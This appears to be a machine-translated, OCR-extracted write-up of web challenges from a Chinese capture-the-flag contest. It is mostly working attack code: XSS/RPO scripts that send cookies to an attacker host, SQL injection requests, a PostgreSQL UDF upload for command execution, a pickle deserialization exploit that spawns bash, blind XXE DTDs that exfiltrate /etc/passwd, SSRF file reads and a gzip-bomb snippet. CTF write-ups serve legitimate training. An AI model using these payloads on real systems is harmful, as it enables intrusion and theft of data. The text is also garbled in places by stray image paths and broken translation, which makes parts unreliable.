the second strong web cup web writeup

Posted by fierce at 2020-03-24

By: [email protected]

WEB check-in

Http:// right click the source code to get the array for the first layer of tips


The second layer still uses arrays



curl -v -H "Cookie: PHPSESSID=8iflkrd5vocvllro75oekanat3" --data "param1=M%C9h%FF%0E%E3%5C%20%95r%D4w%7Br%15%87%D3o%A7%B2%1B%DCV%B7J%3D%C0x%3E%7B%95%18%AF%BF%A2%00%A8%28K%F3n%8EKU%B3_Bu%93%D8Igm%A0%D1U%5D%83%60%FB_%07%FE%A2&param2=M%C9h%FF%0E%E3%5C%20%95r%D4w%7Br%15%87%D3o%A7%B2%1B%DCV%B7J%3D%C0x%3E%7B%95%18%AF%BF%A2%02%A8%28K%F3n%8EKU%B3_Bu%93%D8Igm%A0%D1%D5%5D%83%60%FB_%07%FE%A2"

Title Description Please help me find the vulnerability before I finish this site! hint:xss bot使用phantomjs,版本2.1.1 hint2 : xss的点不在report页面

You can see that there is no / restriction before jquery.min.js, and there is an RPO vulnerabilityI was chatted by some students in private. Maybe I didn't understand RPO. You can see the figure below. It is mainly because of the existence of routing that the loaded JS can be defined by itself.

In the past, RPO encountered is CSS. Because CSS syntax is not so strict, there can be many dirty characters, but JS syntax is strict. Page content must have no dirty characters.

In this case, some special symbols are also materialized, so loading payload uses the form of Eval (string. Fromcharcode (97))


Get the cookie for the current root:

b=document.cookie;a="<img src=//ip/"+btoa(b)+">";document.write(a);

The returned data prompts try to get the cookie of path "/ QWB ﹐ fl4g / QWB /", that is, to get cookies in different directories. You can load through iframe, and finally get the cookies in iframe.Try to get the cookie of path "/QWB_fl4g/QWB/" var i = document.createElement("iframe"); i.setAttribute("src", "/QWB_fl4g/QWB/"); document.body.appendChild(i); i.addEventListener( "load", function(){ var content = i.contentWindow.document.cookie; location='//ip/'+btoa(content); }, false);

最后可拿到flag: flag=QWB%7Bflag_is_f43kth4rpo%7D; HINT=Try to get the cookie of path "/QWB_fl4g/QWB/"

flag=QWB%7Bflag_is_f43kth4rpo%7D; HINT=Try to get the cookie of path "/QWB_fl4g/QWB/"

Three hit

This topic is a secondary injection. The injection point is the registered user's office. Age can only input digital type. We can code it with hex

Get flag

POST /index.php?func=register HTTP/1.1 Host: username=l3m0n23&age=0x393939393939393939393939393920756e696f6e2073656c65637420312c2873656c65637420666c61672066726f6d20666c6167206c696d697420302c31292c332c34206c696d697420382c312d2d&password=123456


Title Description 建设报名网站初期,测试人员发现了构建文件中部分jar版本未更新导致的有意思的RCE,git地址:

Rce will study the Shiro anti sequence vulnerability later

There is also an unexpected problem, that is, the postsql port is open and the password is leaked.

Docker build

UDF raise power

SELECT lo_create(9023); insert into pg_largeobject values (9023, 0, decode('7f454c4602010100000000000000000003003e0001000000000d0000000000004000000000000000e8210000000000000000000040003800070040001a00190001000000050000000000000000000000000000000000000000000000000000004c140000000000004c1400000000000000002000000000000100000006000000f81d000000000000f81d200000000000f81d200000000000d802000000000000e0020000000000000000200000000000020000000600', 'hex')); insert into pg_largeobject values (9023, 1, decode('xxx', 'hex')); insert into pg_largeobject values (9023, 2, decode('xxx', 'hex')); insert into pg_largeobject values (9023, 3, decode('xxx', 'hex')); insert into pg_largeobject values (9023, 4, decode('xxx', 'hex')); insertinto pg_largeobject values (9023, 5, decode('xxx', 'hex')); SELECT lo_export(9023, '/tmp/'); 执行命令: CREATE OR REPLACE FUNCTION sys_eval(text) RETURNS text AS '/tmp/', 'sys_eval' LANGUAGE C RETURNS NULL ON NULL INPUT IMMUTABLE; select sys_eval('id');

Delete function

drop function sys_eval

Python is the best language

For high-quality topics, some masters have written the writeup well... Python writeup

Make some more records for python2

When you build a local flash, you still encounter a pit. When you create a database, add the following code

SQLALCHEMY_DATABASE_URI = "mysql://root:[email protected]/flask?charset=utf8" engine=create_engine(SQLALCHEMY_DATABASE_URI,echo=True) Base=declarative_base() ... Base.metadata.create_all(engine)

There are three steps in total: 1. Bypass the sandbox; 2. Find the trigger point and generate the rule of session file name; 3. Export the inverse string to the file

In the first step, the questioner mistakenly thinks that the modules that are not imported need not be blocked, so subprocess.popen and can be called


Step 2: generatethe session file name MD5 ('bdwsessions' + cookie name)


Step 3: when you log in, you can export the file. When you export, you must use dumpfile... To get outfile.

abc' union select unhex('aaa'),null,null,null,null,null into dumpfile '/tmp/ffff/59dbc12f95f9e1064020d248ad791c0d'-- -

Last exp:

import os import cPickle import subprocess import socket import binascii import hashlib def md5(s, raw_output=False): res = hashlib.md5(s.encode()) if raw_output: return res.digest() return res.hexdigest() def _get_filename(key): key = key.encode('utf-8') # XXX unicode review hash = md5(key) print hash print _get_filename('bdwsessionslemon') # Exploit that we want the target to unpickle class Exploit(object): def __reduce__(self): return (, (['bash','-c','{echo,xxxx}|{base64,-d}|{bash,-i}'],)) def serialize_exploit(): shellcode = cPickle.dumps(Exploit()) return shellcode print binascii.b2a_hex(serialize_exploit())

Of course, there is another way to trigger. You don't need to find the generation method of session name.

Where entries is the number of the whole session, and threshold is a fixed number. The session file threshold in = 1000, that is, when the session file exceeds 1W, allsessions will be listed for deserialization one by one, which can also be triggered.



The subject gives the address behind the public. Check the SDK of WeChat official account. It can be found that it can be sent through some XML data.

import requests url = "" content = "Test TEAMKEY icq3be93d38562e68bc0a86368c2d6b2" data = ''' <xml> <ToUserName><![CDATA[a]]></ToUserName> <FromUserName><![CDATA[1',(select content from note limit 3,1))--]]></FromUserName> <CreateTime>1348831860</CreateTime> <MsgType><![CDATA[text]]></MsgType> <Content><![CDATA[%s]]></Content> <MsgId>1234567890123456</MsgId> <AgentID>1</AgentID> </xml> ''' % content print,data=data).content

The following information can be obtained by indicating the presence of injection

<xml> <ToUserName><![CDATA[1',(select content from note limit 3,1))--]]></ToUserName> <FromUserName><![CDATA[a]]></FromUserName><CreateTime>1521882365</CreateTime> <MsgType><![CDATA[text]]></MsgType> <Content><![CDATA[Success! Start Time:You can leave me message here: Over Time:Sat Mar 24 09:06:05 2018]]></Content> <MsgId>1234567890123456</MsgId> </xml>

The IP of binding host: is

Message has injection, and the restriction is relatively strict

POST /leave_message.php HTTP/1.1 Host: user=aaaaaaaaaaaaaaa&[email protected]&team=icq3be93d38562e68bc0a86368c2d6b2&message=1'-(sleep(ceil(pi())))-'1&submit=submit

For example, the sleep function parameter can't use numbers, but can be bypassed by pi(). In addition, it is the select from part.pi() message=12333'-(if(ascii(substring(([email protected]:=group_concat(username)from{cl0und.adminuser}),%s,1))like'%s',sleep(pi()),0))-'1

All the fields here need to be guessed, but the password field cannot be guessed

Use password retrieval function to inject code and retrieve administrator password

After entering the background, it is found that there is a section of upload place, which is mainly used for uploading the user's Avatar.

After the file is uploaded, the contentof the picture will be displayed.

Look back at the comments in the HTM.

Among them, urlink has SSRF vulnerability. There is no restriction on the protocol and the following characters. Of course, most of the special symbols cannot be used, and only some configuration files can be read.

POST /getimg.php HTTP/1.1 Host: Cookie: PHPSESSID=cjq7naar02kajivdftljhj2h44 ---WebKitFormBoundaryOXFwabnsGhrKdxyn Content-Disposition: form-data; name="urlink" file:// ---WebKitFormBoundaryOXFwabnsGhrKdxyn--

Read the configuration file of Apache, and you can see the content. It's depressing. I read this file during the game, but the content of Base64 is not complete, so I don't see this part. Istill need to be careful

#<Directory /home/qwbweb/backdoor> # Port 23333 # Options Indexes FollowSymLinks # AllowOverride None # Require all granted # Here is a Bin with its libc #</Directory>

The rest is to read the PWN program, and then pwnpwnpwn. It's too delicious to do.

Educational services

In fact, this topic is very silly. I gave a domain name and thought it was a real environment penetration problem, so I did information collection. For example, scan the secondary domain name, scan the port, and scan the file (once scanned, it will be ban)Port 80 is really confused. Just look at port 33899. There is a leak of. Idea, but it's useless.

The content is annotated with a section of XM calling entity variables, which is a bit like xxE.

There is also a place to submit comments, but no matter how you write it, it is alert ("unknown error!")!!! Please try again.


There was a problem passing in the array.The comment has been processed by userdecode. If you try the XML header, you can see that there is an error. The test point should be XX E.

<?xml version="1.0" encoding="utf-8"?>

Through the blind xxE, you can get the file.

Remote server layout a 1.xml

<!ENTITY % payload SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd"> <!ENTITY % int "<!ENTITY % trick SYSTEM 'http://ip/test/?xxe_local=%payload;'>"> %int; %trick;

Comment to call again

<?xml version="1.0" encoding="utf-8"?><!DOCTYPE root [<!ENTITY % remote SYSTEM "http://ip/xxe/1.xml"> %remote; ]></root>

Take a look at / var / www / / config.php

/var/www/ <?php define(BASEDIR, "/var/www/"); define(FLAG_SIG, 1); define(SECRETFILE,'/var/www/'); .... ?>

Got half the flags

Ok,you get the first part of flag : 5bdd3b0ba1fcb40 then you can do more to get more part of flag

There is a problem here, that is, there is a detected an entity reference loop error when getting / var / www / / common.php.

/var/www/ Detected an entity reference loopLooking up the data, the libxml parser limits the length of external entities to 2K by default, which can't be broken through. It can only look for compressed data. A zlib.inflate compressed data is provided in the PHP filter.

zlib.inflate 压缩:echofile_get_contents("php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd"); 解压:echo file_get_contents("php://filter/read=convert.base64-decode/zlib.inflate/resource=/tmp/1");

In this way, you can get the source code of the common.php file!


Get some IP information of the machine again, in which an intranet address is reserved in the ARP information

/proc/net/arp /etc/host IP address HW type Flags HW address Mask Device 0x1 0x2 02:42:c0:a8:df:12 * eth0 0x1 0x2 02:42:91:f9:c9:d4 * eth0

An 80 port is opened, and the shop parameter of test.php is injected

<!ENTITY % payload SYSTEM "'-(case%a0when((1)like(1))then(0)else(1)end)-'1"> <!ENTITY % int "<!ENTITY % trick SYSTEM 'http://ip/test/?xxe_local=%payload;'>"> %int; %trick;

I can't do it. I don't want to.

2333. I learned a posture to prevent the scanner. If the scanner climbs to test.php, of course, it has little effect on general directory scanning. Generally, it is a head request.


<?php $agent = strtolower($_SERVER['HTTP_USER_AGENT']); //check for nikto, sql map or "bad" subfolders which only exist on wordpress if (strpos($agent, 'nikto') !== false || strpos($agent, 'sqlmap') !== false || startswith($url,'wp-') || startswith($url,'wordpress') || startswith($url,'wp/')) { sendBomb(); exit(); } function sendBomb(){ //prepare the client to recieve GZIP data. This will not be suspicious //since most web servers use GZIP by default header("Content-Encoding: gzip"); header("Content-Length: ".filesize('www.gzip')); //Turn off output buffering if (ob_get_level()) ob_end_clean(); //send the gzipped file to the client readfile('10G.gzip'); } functionstartsWith($haystack,$needle){ return (substr($haystack,0,strlen($needle)) === $needle); } ?>